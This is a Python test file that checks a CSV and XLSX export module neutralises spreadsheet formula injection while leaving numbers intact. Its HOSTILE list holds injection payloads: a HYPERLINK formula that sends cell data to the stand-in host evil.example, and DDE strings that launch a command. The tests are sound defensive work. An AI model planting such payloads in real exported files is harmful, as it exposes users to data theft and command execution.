"""The shared export writers neutralise formulas in text and leave numbers alone."""

from __future__ import annotations

import csv
import datetime as dt
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from fazhi.core.exports import (
    FORMULA_PREFIXES,
    csv_bytes,
    csv_value,
    is_risky,
    xlsx_append,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_prefixes_risky_text_and_keeps_numbers():
    content, count = csv_bytes(
        ["名称", "数"], [[text, -5] for text in HOSTILE] + [["-12.5", 3.5], ["普通名称", 0]]
    )
    rows = _csv_rows(content)
    assert count == len(HOSTILE) + 2
    assert [r[0] for r in rows[1 : len(HOSTILE) + 1]] == ["'" + t for t in HOSTILE]
    assert rows[1][1] == "-5"  # a negative number is written as a number
    assert rows[-2] == ["-12.5", "3.5"]  # a text that is a plain number cannot be a formula
    assert rows[-1] == ["普通名称", "0"]


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    for text in HOSTILE:
        xlsx_append(sheet, [text, -5, 2.5, dt.date(2026, 1, 2), None])
    out = io.BytesIO()
    workbook.save(out)
    read = load_workbook(io.BytesIO(out.getvalue()))["s"]
    for index, text in enumerate(HOSTILE, start=1):
        cell = read.cell(row=index, column=1)
        assert (cell.data_type, cell.value) == ("s", text)
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited
        assert read.cell(row=index, column=2).value == -5
        assert read.cell(row=index, column=2).data_type == "n"
        assert read.cell(row=index, column=3).value == 2.5


def test_xlsx_bytes_writes_through_the_same_cells():
    content = xlsx_bytes([("表", ["名称", "数"], [[HOSTILE[0], -1]])])
    sheet = load_workbook(io.BytesIO(content))["表"]
    assert sheet["A1"].value == "名称" and sheet["A1"].font.bold
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", HOSTILE[0])
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -1)


@given(st.text())
def test_no_csv_cell_can_start_a_formula(text):
    value = csv_value(text)
    if value.startswith(FORMULA_PREFIXES):
        assert not is_risky(value) and float(value) == float(text)
    assert value.removeprefix("'") == text or value == text
